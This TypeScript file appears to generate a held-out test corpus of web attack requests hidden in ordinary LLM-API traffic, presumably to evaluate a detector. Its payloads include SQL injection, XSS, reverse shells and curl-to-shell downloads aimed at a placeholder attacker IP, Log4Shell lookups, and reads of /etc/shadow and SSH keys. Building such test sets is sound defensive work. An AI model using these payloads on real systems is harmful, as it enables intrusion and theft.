/**
 * Web-layer attacks of the held-out corpus: classic payloads placed in the query string,
 * in headers (standard and custom), in cookies and in non-prompt JSON fields. Each request
 * is otherwise ordinary SDK traffic with a neutral prompt. Payloads use the published
 * techniques but were written for this corpus.
 */
import type { CorpusCase } from '../../types.js';
import { CategoryBuilder, CLIENTS, type ClientKind, chatBody, clientHeaders, routeFor, system, user } from './http.js';
import { Rng } from './rng.js';

const NEUTRAL = ['Summarise the attached meeting notes.', 'What is the weather usually like in Porto in May?', 'Give me a synonym for "important".', 'Draft a two-line status update.', 'Translate "thank you" into Dutch.', 'Explain what a REST API is in one paragraph.'];

export type Enc = 'url' | 'plus' | 'raw' | 'double' | 'pre';

/** Percent-encodes a payload the way a given tool would put it on the request line. */
export function encode(payload: string, enc: Enc): string {
  switch (enc) {
    case 'pre': return payload;
    case 'url': return encodeURIComponent(payload).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
    case 'plus': return encodeURIComponent(payload).replace(/%20/g, '+');
    case 'raw': return payload.replace(/[\s#%]/g, (c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0').toUpperCase()}`).replace(/[^\x21-\x7e]/g, (c) => encodeURIComponent(c));
    case 'double': return encodeURIComponent(encodeURIComponent(payload));
  }
}

type Place =
  | { readonly q: string; readonly enc?: Enc }
  | { readonly appendVersion: true; readonly enc?: Enc }
  | { readonly h: string }
  | { readonly f: string }
  | { readonly path: string; readonly method?: string };

interface W {
  readonly p: string;
  readonly at: Place;
  readonly note?: string;
  readonly tags?: readonly string[];
}

const w = (p: string, at: Place, note?: string, tags?: readonly string[]): W => ({ p, at, ...(note ? { note } : {}), ...(tags ? { tags } : {}) });

function setField(body: Record<string, unknown>, field: string, value: string): void {
  if (field === 'metadata_key') {
    body.store = true;
    body.metadata = { [value]: 'true', source: 'web' };
  } else if (field.startsWith('metadata.')) {
    body.store = true;
    body.metadata = { ...(body.metadata as Record<string, string> | undefined), app: 'portal', [field.slice(9)]: value };
  } else {
    body[field] = value;
  }
}

function build(b: CategoryBuilder, item: W): void {
  const rng = b.rng;
  const client: ClientKind = rng.pick(CLIENTS);
  const at = item.at;
  const tags: string[] = [`client:${client}`];
  const needsV1 = 'f' in at && (at.f === 'model' || at.f === 'previous_response_id');
  const ri = routeFor(rng, needsV1 ? (at.f === 'previous_response_id' ? 'responses' : 'v1chat') : rng.chance(0.8) ? 'chat' : 'v1chat');
  let path = ri.path;
  const headers = clientHeaders(rng, client, { v1: ri.v1 });
  let body: Record<string, unknown> = ri.route === 'responses' ? { model: ri.model, input: rng.pick(NEUTRAL) } : chatBody(ri, [...(rng.chance(0.3) ? [system('You are a helpful assistant.')] : []), user(rng.pick(NEUTRAL))]);
  let method = 'POST';
  if ('q' in at) {
    const sep = path.includes('?') ? '&' : '?';
    path = `${path}${sep}${at.q}=${encode(item.p, at.enc ?? 'url')}`;
    tags.push(`query:${at.q}`, `enc:${at.enc ?? 'url'}`);
  } else if ('appendVersion' in at) {
    path = path.includes('api-version=') ? path.replace(/(api-version=[^&]*)/, `$1${encode(item.p, at.enc ?? 'url')}`) : `${path}?api-version=2024-10-21${encode(item.p, at.enc ?? 'url')}`;
    tags.push('query:api-version', `enc:${at.enc ?? 'url'}`);
  } else if ('h' in at) {
    headers[at.h] = item.p;
    tags.push(`header:${at.h}`);
  } else if ('f' in at) {
    if (at.f === 'model') body = { ...body, model: item.p };
    else setField(body, at.f, item.p);
    tags.push(`field:${at.f}`);
  } else {
    path = at.path;
    method = at.method ?? 'POST';
    tags.push('path');
    if (method === 'GET') body = null as unknown as Record<string, unknown>;
  }
  if (body === null) delete headers['content-type'];
  b.add({ method, path, headers, body, tags: [...tags, ...(item.tags ?? [])], ...(item.note ? { note: item.note } : {}) });
}

function group(category: string, items: readonly W[]): CorpusCase[] {
  const b = new CategoryBuilder(category);
  for (const it of items) build(b, it);
  return b.cases;
}

const ATK = '198.51.100.23';
const OAST = 'c8f1x2.oast-collab.net';

function javaSerialized(rng: Rng): string {
  const u16 = (n: number): Buffer => Buffer.from([n >> 8, n & 0xff]);
  const cls = (name: string): Buffer => Buffer.concat([Buffer.from([0x72]), u16(name.length), Buffer.from(name, 'latin1'), rng.bytes(8), Buffer.from([0x03])]);
  const bytes = Buffer.concat([Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73]), cls('java.util.PriorityQueue'), Buffer.from([0x00, 0x02, 0x49, 0x00, 0x04]), Buffer.from('size', 'latin1'), Buffer.from([0x4c, 0x00, 0x0a]), Buffer.from('comparator', 'latin1'), Buffer.from([0x74, 0x00, 0x16]), Buffer.from('Ljava/util/Comparator;', 'latin1'), Buffer.from([0x78, 0x70, 0, 0, 0, 2, 0x73]), cls('org.apache.commons.collections4.comparators.TransformingComparator'), rng.bytes(48)]);
  return bytes.toString('base64');
}

export function web(): CorpusCase[] {
  const out: CorpusCase[] = [];

  out.push(...group('web.sqli.query', [
    w("1' AND 1=1-- -", { q: 'id' }),
    w("' OR 'a'='a", { q: 'user' }),
    w('1 UNION ALL SELECT NULL,NULL,@@version-- -', { q: 'id', enc: 'plus' }),
    w('-7 UNION SELECT 1,concat(username,0x3a,password),3 FROM users-- -', { q: 'page' }),
    w("1' AND SLEEP(5) AND 'x'='x", { q: 'q', enc: 'plus' }),
    w("1;WAITFOR DELAY '0:0:5'--", { q: 'filter' }),
    w("1' AND extractvalue(1,concat(0x7e,(SELECT database()),0x7e))-- -", { q: 'sort' }),
    w('1 AND (SELECT 4213 FROM (SELECT(SLEEP(5)))xQzt)', { q: 'id', enc: 'plus' }, 'sqlmap time-based blind shape'),
    w("1' ORDER BY 12-- -", { q: 'sort', enc: 'raw' }),
    w("admin'--", { q: 'user', enc: 'raw' }),
    w('1) OR (1=1', { q: 'filter' }),
    w("1' AND 1=CAST((SELECT version()) AS int)-- -", { q: 'id' }, 'PostgreSQL error-based'),
    w("1'||(SELECT pg_sleep(6))||'", { q: 'lang' }),
    w('1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>77', { q: 'page', enc: 'plus' }),
    w('1/**/UNION/**/SELECT/**/table_name,2/**/FROM/**/information_schema.tables', { q: 'q', enc: 'raw' }),
    w("' uNiOn SeLeCt 1,2,3-- -", { appendVersion: true }),
    w('1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)', { q: 'id' }, 'Oracle time-based'),
    w("'; EXEC master..xp_cmdshell 'ping 198.51.100.9'--", { q: 'filter' }),
    w("1' OR 1=1--", { q: 'id', enc: 'double' }, 'double-encoded'),
    w('1 RLIKE (SELECT (CASE WHEN (7421=7421) THEN 1 ELSE 0x28 END))', { q: 'q', enc: 'plus' }),
    w("1' AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B)>0 -- ", { q: 'deployment' }, 'heavy query'),
    w('1 /*!50000UNION*/ /*!50000SELECT*/ user(),2', { q: 'format' }, 'MySQL versioned comments'),
  ]));

  out.push(...group('web.sqli.header', [
    w("Mozilla/5.0' AND SLEEP(5)-- -", { h: 'user-agent' }),
    w("https://portal.fabrikam.io/items?id=1' UNION SELECT NULL,version()-- -", { h: 'referer' }),
    w("session=4f1c9a; tracking_id=1' OR '1'='1", { h: 'cookie' }),
    w("127.0.0.1' AND (SELECT 1 FROM pg_sleep(5))--", { h: 'x-forwarded-for' }),
    w("10.0.0.1'; DROP TABLE audit_log;--", { h: 'x-client-ip' }),
    w('1 UNION SELECT username, password FROM admin_users', { h: 'x-request-id' }),
    w('42 OR 1=1', { h: 'x-tenant-id' }, 'custom header', ['custom_header']),
    w("2024-10-21' WAITFOR DELAY '00:00:05'--", { h: 'x-api-version' }),
    w("lang=en'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'", { h: 'cookie' }),
    w("en-US' AND 1=(SELECT COUNT(*) FROM mysql.user)-- -", { h: 'accept-language' }),
    w("d41d8cd9' or sleep(3)#", { h: 'x-device-id' }, 'custom header', ['custom_header']),
  ]));

  out.push(...group('web.sqli.json_field', [
    w("1' OR '1'='1' -- ", { f: 'user' }),
    w('42 UNION SELECT card_number FROM payments', { f: 'metadata.customer_id' }),
    w('name; DROP TABLE conversations--', { f: 'metadata.sort' }),
    w("gpt-4o' AND SLEEP(5)#", { f: 'model' }),
    w("x' UNION SELECT password FROM users WHERE '1'='1", { f: 'prompt_cache_key' }),
    w("abc' OR 1=1--", { f: 'safety_identifier' }),
    w("id' OR 1=1--", { f: 'metadata_key' }, 'payload is the metadata key name'),
    w("resp_1' AND 1=(SELECT COUNT(*) FROM sysusers)--", { f: 'previous_response_id' }),
    w("status = 'open' OR 1=1 UNION SELECT * FROM secrets", { f: 'metadata.filter' }),
    w("admin'/**/OR/**/1=1#", { f: 'user' }),
    w('1; SELECT pg_sleep(10);--', { f: 'metadata.tenant' }),
    w("' AND extractvalue(rand(),concat(0x3a,(SELECT user())))-- ", { f: 'user' }),
  ]));

  out.push(...group('web.xss.query', [
    w('<script>alert(document.cookie)</script>', { q: 'q' }),
    w('"><svg/onload=alert(1)>', { q: 'redirect' }),
    w('javascript:alert(document.domain)', { q: 'redirect' }),
    w(`<img src=x onerror=fetch('//${ATK}/?c='+document.cookie)>`, { q: 'callback' }),
    w('<iframe src="javascript:alert(1)">', { q: 'format', enc: 'plus' }),
    w('<details open ontoggle=confirm(1)>', { q: 'q', enc: 'raw' }),
    w('<script>alert(1)</script>', { q: 'lang', enc: 'double' }, 'double-encoded'),
    w('<body onload=alert(String.fromCharCode(88,83,83))>', { q: 'page' }),
    w("{{constructor.constructor('alert(1)')()}}", { q: 'q' }, 'AngularJS template injection'),
    w('<a href="jav&#x61;script:alert(1)">x</a>', { q: 'q' }),
    w('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', { q: 'filter' }, 'mutation XSS'),
    w('"-alert(1)-"', { q: 'callback', enc: 'raw' }, 'JS string breakout'),
  ]));

  out.push(...group('web.xss.header', [
    w('https://news.site.test/"><script>alert(1)</script>', { h: 'referer' }),
    w("<script>alert('ua')</script>", { h: 'user-agent' }),
    w('theme="><img src=x onerror=alert(1)>', { h: 'cookie' }),
    w('"><svg onload=alert(1)>', { h: 'x-forwarded-host' }),
    w('Mozilla/5.0 <img src=1 onerror=prompt(document.domain)>', { h: 'user-agent' }),
    w('<iframe src=javascript:alert(1)>', { h: 'x-request-id' }),
    w('javascript:alert(document.cookie)//', { h: 'referer' }),
  ]));

  out.push(...group('web.xss.json_field', [
    w('<script>alert(1)</script>', { f: 'user' }),
    w('"><img src=x onerror=alert(1)>', { f: 'metadata.display_name' }),
    w('javascript:alert(document.cookie)', { f: 'metadata.callback_url' }),
    w('<svg onload=alert(1)>', { f: 'safety_identifier' }),
    w('<iframe srcdoc="<script>alert(1)</script>">', { f: 'prompt_cache_key' }),
    w('<img src=x onerror=alert(1)>', { f: 'metadata_key' }),
    w('gpt-4o<script>alert(1)</script>', { f: 'model' }),
    w('<body onpageshow=alert(1)>', { f: 'metadata.note' }),
    w('<input autofocus onfocus=alert(1)>', { f: 'user' }),
  ]));

  out.push(...group('web.rce.query', [
    w(';cat /etc/passwd', { q: 'q' }),
    w('$(whoami)', { q: 'user' }),
    w(`|nc ${ATK} 4444 -e /bin/sh`, { q: 'filter' }),
    w('`uname -a`', { q: 'lang' }),
    w('\nid', { q: 'id' }, 'newline-separated command'),
    w('& ping -n 5 127.0.0.1 &', { q: 'format' }),
    w(`;curl http://${ATK}/x.sh|sh`, { q: 'callback', enc: 'raw' }),
    w(`||wget -qO- http://${ATK}/a|bash`, { q: 'page' }),
    w(';cat${IFS}/etc/shadow', { q: 'sort', enc: 'raw' }),
  ]));

  out.push(...group('web.rce.header', [
    w(`() { :; }; /bin/bash -c "curl http://${ATK}/s|sh"`, { h: 'user-agent' }, 'Shellshock'),
    w('() { ignored; }; echo; /usr/bin/id', { h: 'referer' }, 'Shellshock'),
    w(`\${jndi:ldap://${ATK}:1389/a}`, { h: 'user-agent' }, 'Log4Shell'),
    w(`\${jndi:rmi://${ATK}:1099/obj}`, { h: 'x-api-version' }, 'Log4Shell'),
    w(`\${\${lower:j}\${lower:n}\${lower:d}i:\${lower:l}dap://${OAST}/x}`, { h: 'x-forwarded-for' }, 'Log4Shell with lookups'),
    w(`\${\${::-j}\${::-n}\${::-d}\${::-i}:dns://${OAST}/}`, { h: 'referer' }, 'Log4Shell default-value obfuscation'),
    w(`lang=$(curl -s http://${ATK}/p|sh)`, { h: 'cookie' }),
    w(`;wget http://${ATK}/b -O /tmp/b;chmod +x /tmp/b;/tmp/b`, { h: 'x-request-id' }),
    w('portal.fabrikam.io|id', { h: 'x-forwarded-host' }),
    w(`\${jndi:ldaps://${OAST}/e}`, { h: 'x-correlation-id' }, 'Log4Shell in a custom header', ['custom_header']),
  ]));

  out.push(...group('web.rce.json_field', [
    w(';cat /etc/passwd', { f: 'user' }),
    w(`report.pdf; curl http://${ATK}/x | sh`, { f: 'metadata.filename' }),
    w('$(id)', { f: 'metadata.cmd' }),
    w('`whoami`', { f: 'prompt_cache_key' }),
    w(`| powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://${ATK}/p.ps1')"`, { f: 'safety_identifier' }),
    w(`/tmp/x && bash -i >& /dev/tcp/${ATK}/4444 0>&1`, { f: 'metadata.path' }),
    w('a; nc -lvp 9001 -e /bin/bash', { f: 'user' }),
  ]));

  out.push(...group('web.lfi.query', [
    w('../../../../etc/passwd', { q: 'file', enc: 'raw' }),
    w('..%2f..%2f..%2f..%2fetc%2fpasswd', { q: 'page', enc: 'pre' }),
    w('%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow', { q: 'template', enc: 'pre' }),
    w('..%252f..%252f..%252fetc%252fpasswd', { q: 'doc', enc: 'pre' }, 'double-encoded'),
    w('....//....//....//etc/passwd', { q: 'lang', enc: 'raw' }),
    w('..\\..\\..\\windows\\win.ini', { q: 'path' }),
    w('/proc/self/environ', { q: 'file', enc: 'raw' }),
    w('../../../../var/log/nginx/access.log%00', { q: 'include', enc: 'pre' }, 'null byte'),
    w('%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', { q: 'f', enc: 'pre' }, 'overlong UTF-8 dots'),
    w('../../../../../../boot.ini', { q: 'download' }),
    w('/../../../WEB-INF/web.xml', { q: 'view', enc: 'raw' }),
  ]));

  out.push(...group('web.lfi.path', [
    w('', { path: '/openai/deployments/../../../../etc/passwd', method: 'GET' }, 'sent with --path-as-is'),
    w('', { path: '/openai/deployments/gpt-4o/..%2f..%2f..%2f..%2fetc%2fpasswd?api-version=2024-10-21' }),
    w('', { path: '/openai/%2e%2e/%2e%2e/%2e%2e/etc/shadow', method: 'GET' }),
    w('', { path: '/static/..%252f..%252f..%252fetc/passwd', method: 'GET' }),
    w('', { path: '/openai/v1/files/..%5c..%5c..%5cwindows%5cwin.ini', method: 'GET' }),
    w('', { path: '/openai/deployments/gpt-4o/..;/..;/..;/etc/passwd', method: 'GET' }, 'Tomcat path parameter'),
  ]));

  out.push(...group('web.lfi.json_field', [
    w('../../../../etc/passwd', { f: 'metadata.file' }),
    w('..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts', { f: 'user' }),
    w('/proc/self/cmdline', { f: 'prompt_cache_key' }),
    w('....//....//etc/shadow', { f: 'metadata.template' }),
    w('%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd', { f: 'safety_identifier' }),
    w('../../../root/.ssh/id_rsa', { f: 'metadata.attachment' }),
  ]));

  out.push(...group('web.rfi', [
    w(`http://${ATK}/shell.txt?`, { q: 'page' }),
    w('https://evil-cdn.example/inc/r57.txt?', { q: 'file' }),
    w(`ftp://${ATK}/pub/x.php`, { q: 'template' }),
    w(`\\\\${ATK}\\share\\x.php`, { q: 'include' }, 'UNC path'),
    w('http://203.0.113.66/c99.txt%00', { q: 'lang', enc: 'pre' }),
    w(`//${ATK}/x.txt?`, { q: 'path', enc: 'raw' }),
    w(`http://${ATK}/payload.txt?`, { f: 'metadata.template_url' }),
    w(`https://${ATK}/inc.php?`, { f: 'user' }),
  ]));

  out.push(...group('web.php', [
    w("<?php system($_GET['c']); ?>", { q: 'cmd' }, 'PHP code', ['php:code']),
    w('php://filter/convert.base64-encode/resource=../config.php', { q: 'file' }, 'php filter wrapper', ['php:wrapper']),
    w('php://input', { q: 'page' }, undefined, ['php:wrapper']),
    w('data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==', { q: 'f' }, undefined, ['php:wrapper']),
    w('expect://id', { q: 'x' }, undefined, ['php:wrapper']),
    w('phar:///var/www/uploads/avatar.jpg/test.txt', { q: 'file', enc: 'raw' }, undefined, ['php:wrapper']),
    w('%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input', { q: 'x', enc: 'pre' }, 'CVE-2024-4577 argument injection', ['php:ini']),
    w('O:8:"Exploit":1:{s:3:"cmd";s:2:"id";}', { f: 'metadata.state' }, 'serialized object', ['php:serialized']),
    w('a:2:{i:0;s:4:"test";i:1;O:21:"Monolog\\Handler\\Buffer":0:{}}', { h: 'cookie' }, 'serialized object in a cookie', ['php:serialized']),
    w("<?php eval($_POST['x']); ?>", { h: 'user-agent' }, 'log poisoning', ['php:code']),
    w("assert(base64_decode('c3lzdGVtKCdpZCcp'))", { q: 'q' }, undefined, ['php:code']),
    w("${@print(system('id'))}", { f: 'user' }, 'complex curly syntax', ['php:code']),
  ]));

  out.push(...group('web.java', [
    w(`\${jndi:ldap://${ATK}:1389/Exploit}`, { q: 'q' }, 'Log4Shell in query', ['java:log4shell']),
    w(`\${jndi:ldap://${OAST}/u}`, { f: 'user' }, 'Log4Shell in user field', ['java:log4shell']),
    w(`\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap://${OAST}/m}`, { f: 'metadata.ref' }, 'Log4Shell env obfuscation', ['java:log4shell']),
    w('%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di', { q: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern', enc: 'pre' }, 'Spring4Shell', ['java:spring4shell']),
    w("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):0).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}", { h: 'content-type' }, 'Struts S2-045 OGNL', ['java:ognl']),
    w("${#context['xwork.MethodAccessor.denyMethodExecution']=false,#_memberAccess.allowStaticMethodAccess=true,@java.lang.Runtime@getRuntime().exec('id')}", { q: 'redirect' }, 'OGNL', ['java:ognl']),
    w("T(java.lang.Runtime).getRuntime().exec('id')", { f: 'metadata.expression' }, 'SpEL', ['java:spel']),
    w('T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")', { h: 'spring.cloud.function.routing-expression' }, 'CVE-2022-22963', ['java:spel']),
    w('', { h: 'cookie' }, 'Java serialized object (base64) in a cookie', ['java:deserialization']),
    w('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', { f: 'metadata.template' }, 'FreeMarker SSTI', ['java:ssti']),
    w('new java.lang.ProcessBuilder("bash","-c","id").start()', { q: 'expr' }, undefined, ['java:code']),
  ]));

  out.push(...group('web.nodejs', [
    w('{"isAdmin":true}', { f: '__proto__' }, 'own __proto__ key at the body root', ['nodejs:proto_root']),
    w('', { f: 'metadata.__proto__' }, 'own __proto__ key inside metadata', ['nodejs:proto_metadata']),
    w('', { f: 'metadata.constructor' }, 'constructor.prototype inside metadata', ['nodejs:constructor']),
    w('true', { q: '__proto__[isAdmin]', enc: 'raw' }, undefined, ['nodejs:proto_query']),
    w('/proc/self/exe', { q: 'constructor[prototype][shell]', enc: 'raw' }, undefined, ['nodejs:proto_query']),
    w("_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", { f: 'metadata.session' }, 'node-serialize', ['nodejs:serialize']),
    w("require('child_process').execSync('cat /etc/passwd').toString()", { f: 'user' }, 'server-side JS injection', ['nodejs:ssji']),
    w("process.mainModule.require('child_process').exec('id')", { q: 'callback' }, undefined, ['nodejs:ssji']),
    w("this.constructor.constructor('return process')().exit()", { f: 'safety_identifier' }, undefined, ['nodejs:ssji']),
    w('{"$where":"sleep(5000)"}', { f: 'metadata.query' }, 'NoSQL operator injection', ['nodejs:nosql']),
  ]));

  out.push(...group('web.protocol', [
    w('%0d%0aSet-Cookie:%20admin=true', { q: 'redirect', enc: 'pre' }, 'CRLF injection'),
    w(`%0d%0aLocation:%20http://${ATK}/`, { q: 'lang', enc: 'pre' }, 'CRLF injection'),
    w('%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>', { q: 'page', enc: 'pre' }, 'response splitting'),
    w(`http://${ATK}:8080`, { h: 'proxy' }, 'httpoxy'),
    w('chunked', { h: 'transfer-encoding' }, 'Transfer-Encoding together with Content-Length'),
    w('%uff1cscript%uff1ealert(1)%uff1c/script%uff1e', { q: 'q', enc: 'pre' }, 'IIS %u encoding'),
    w('%G1%ZZ', { q: 'id', enc: 'pre' }, 'invalid percent encoding'),
    w('%00', { appendVersion: true, enc: 'pre' }, 'null byte after api-version'),
    w(`bytes=0-,${Array.from({ length: 40 }, (_v, i) => `${i * 5}-${i * 5 + 1}`).join(',')}`, { h: 'range' }, 'many overlapping ranges'),
    w('%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be', { q: 'q', enc: 'pre' }, 'overlong UTF-8'),
  ]));

  out.push(...group('web.scanner', [
    w('sqlmap/1.8.11#stable (https://sqlmap.org)', { h: 'user-agent' }),
    w('Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)', { h: 'user-agent' }),
    w('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', { h: 'user-agent' }),
    w('Fuzz Faster U Fool v2.1.0-dev', { h: 'user-agent' }),
    w('gobuster/3.6', { h: 'user-agent' }),
    w('masscan/1.3 (https://github.com/robertdavidgraham/masscan)', { h: 'user-agent' }),
    w('WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)', { h: 'user-agent' }),
    w('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', { h: 'user-agent' }),
    w('acunetix_wvs_security_test', { h: 'acunetix-product' }, 'Acunetix marker header'),
    w('Arachni/v1.6.1.3', { h: 'user-agent' }),
    w('commix/v4.0-stable (https://commixproject.com)', { h: 'user-agent' }),
    w('Mozilla/5.0 zgrab/0.x', { h: 'user-agent' }),
    w('Wfuzz/3.1.0', { h: 'user-agent' }),
  ]));

  return fixups(out);
}

/** Bodies and values that cannot be expressed with the simple placements above. */
function fixups(cases: CorpusCase[]): CorpusCase[] {
  return cases.map((c) => {
    const m = c as unknown as Record<string, unknown> & { headers: Record<string, string>; body: Record<string, unknown>; tags: string[] };
    if (c.category === 'web.java' && m.tags.includes('java:deserialization')) {
      const rng = new Rng(c.id);
      m.headers.cookie = `JSESSIONID=${rng.hex(32).toUpperCase()}; rememberMe=${javaSerialized(rng)}`;
    }
    if (c.category === 'web.nodejs') {
      const text = JSON.stringify(m.body);
      if (m.tags.includes('nodejs:proto_root')) {
        m.body = JSON.parse(`${text.slice(0, -1)},"__proto__":{"isAdmin":true,"role":"admin"}}`) as Record<string, unknown>;
      } else if (m.tags.includes('nodejs:proto_metadata')) {
        m.body = JSON.parse(text.replace('"__proto__":""', '"__proto__":{"polluted":"yes","toString":"x"}')) as Record<string, unknown>;
      } else if (m.tags.includes('nodejs:constructor')) {
        m.body = JSON.parse(text.replace('"constructor":""', '"constructor":{"prototype":{"isAdmin":true}}')) as Record<string, unknown>;
      } else if (m.tags.includes('nodejs:nosql')) {
        m.body = JSON.parse(text.replace('"query":"{\\"$where\\":\\"sleep(5000)\\"}"', '"query":{"$where":"sleep(5000)"}')) as Record<string, unknown>;
        if (!JSON.stringify(m.body).includes('"query":{"$where"')) throw new Error('nosql fixup failed');
      }
    }
    return c;
  });
}
